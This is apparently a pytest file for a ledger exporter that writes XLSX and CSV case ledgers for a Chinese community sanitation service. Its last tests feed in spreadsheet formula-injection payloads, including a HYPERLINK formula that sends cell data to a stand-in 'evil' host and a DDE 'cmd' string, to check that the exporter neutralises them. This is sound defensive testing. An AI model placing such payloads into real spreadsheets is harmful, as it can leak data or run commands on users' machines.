"""Ledger files written from an in-memory ledger: the XLSX sheets and the CSV a spreadsheet
program opens with its Chinese text intact."""

import csv
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from services.domain.kpi import KpiFacts, compute_kpis
from services.ledger.export import write_csv, write_xlsx
from services.ledger.rows import COLUMNS, Ledger, month_period

AT = datetime(2025, 10, 9, 9, 0, tzinfo=ZoneInfo("Asia/Shanghai"))


def _ledger() -> Ledger:
    fact = KpiFacts("c1", "closed", AT, "sanitation", dispatched_at=AT, acknowledged_at=AT,
                    resolved_at=AT + timedelta(hours=2), closed_at=AT + timedelta(hours=3),
                    resolve_due=AT + timedelta(hours=4), resolutions=1)  # fmt: skip
    line = [1, "3302112025100900001", "2025-10-09 09:00", "网格员", "市容环境", "暴露垃圾",
            "路边垃圾", "330211009001001", "", "环卫处", "已结案", "", "", "", "", "", "是",
            "否", 0, 0, "", "满意"]  # fmt: skip
    kpis = compute_kpis([fact], as_of=AT + timedelta(days=1))
    return Ledger("330211009001", "第1社区", date(2025, 10, 1), [line], kpis)


def test_xlsx_has_the_lines_and_the_month_summary(tmp_path):
    path = tmp_path / "l.xlsx"
    write_xlsx(path, _ledger())
    book = load_workbook(path)
    sheet = book["台账"]
    assert sheet["A1"].value == "第1社区 2025年10月 案卷台账"
    assert [c.value for c in sheet[2]] == [zh for zh, _ in COLUMNS]
    assert [c.value for c in sheet[3]] == [en for _, en in COLUMNS]
    assert sheet["B4"].value == "3302112025100900001"
    summary = {r[0].value: r[2].value for r in book["汇总"].iter_rows(min_row=2)}
    assert summary["结案率"] == 1.0 and summary["按期结案率"] == 1.0
    assert summary["结案用时中位数(小时)"] == 3.0
    assert not list(tmp_path.glob("*.part"))


def test_csv_starts_with_a_byte_order_mark(tmp_path):
    path = tmp_path / "l.csv"
    write_csv(path, _ledger())
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0][0] == "序号 (No.)" and rows[1][5] == "暴露垃圾"


def test_a_month_period_covers_local_days():
    period = month_period(date(2025, 2, 14))
    assert (period.first, period.last) == (date(2025, 2, 1), date(2025, 2, 28))
    assert period.start.isoformat() == "2025-01-31T16:00:00+00:00"
    assert period.end.isoformat() == "2025-02-28T16:00:00+00:00"


HOSTILE = ['=HYPERLINK("http://evil/?"&B4,"详情")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _hostile() -> Ledger:
    book = _ledger()
    line = list(book.lines[0])
    line[6], line[8] = HOSTILE[0], "bad\x01char"
    others = [[i + 2, *line[1:6], text, *line[7:]] for i, text in enumerate(HOSTILE[1:])]
    return Ledger(book.community_code, "=cmd|' /C calc'!A0", book.month, [line, *others],
                  book.kpis)  # fmt: skip


def test_no_cell_of_an_xlsx_ledger_is_a_formula(tmp_path):
    path = tmp_path / "l.xlsx"
    write_xlsx(path, _hostile())
    sheet = load_workbook(path)["台账"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["G4"].value == "'" + HOSTILE[0] and sheet["I4"].value == "bad\ufffdchar"
    # (an XLSX reader gives a stored CR back as LF)
    shown = [sheet[f"G{r}"].value for r in range(5, 10)]
    assert shown == ["'" + h.replace("\r", "\n") for h in HOSTILE[1:]]


def test_no_cell_of_a_csv_ledger_starts_a_formula(tmp_path):
    path = tmp_path / "l.csv"
    write_csv(path, _hostile())
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))[1:]
    texts = [value for row in rows for value in row]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[0][6] == "'" + HOSTILE[0] and rows[0][8] == "bad\ufffdchar"
